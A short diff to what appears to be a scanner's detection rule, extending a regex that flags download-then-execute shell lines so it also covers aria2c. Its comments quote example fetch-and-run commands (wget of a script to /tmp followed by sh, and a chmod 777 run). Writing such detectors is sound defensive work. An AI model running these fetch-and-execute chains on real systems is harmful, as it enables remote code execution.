@@ -14,7 +14,7 @@ export const rule: Rule = {
   match: [
     // wget http://h/x.sh -O /tmp/x.sh; sh /tmp/x.sh
     {
-      re: /(?<![\w.-])(?:curl|wget)\s[^\n]*:\/\/[^\n]*(?:;|&&|\|\|?)\s*(?:sudo\s+|nohup\s+|exec\s+)*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a)?sh|source|\.|python[\d.]*|perl|ruby|node|php)\s+["']?(?:[\w.~$/{}-]*\.(?:sh|bash|py|pl|rb|js|php)|[.~]?\/[\w$])/,
+      re: /(?<![\w.-])(?:curl|wget|aria2c)\s[^\n]*:\/\/[^\n]*(?:;|&&|\|\|?)\s*(?:sudo\s+|nohup\s+|exec\s+)*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a)?sh|source|\.|python[\d.]*|perl|ruby|node|php)\s+["']?(?:[\w.~$/{}-]*\.(?:sh|bash|py|pl|rb|js|php)|[.~]?\/[\w$])/,
       window: 600,
     },
     // wget http://h/x; chmod 777 x; ./x
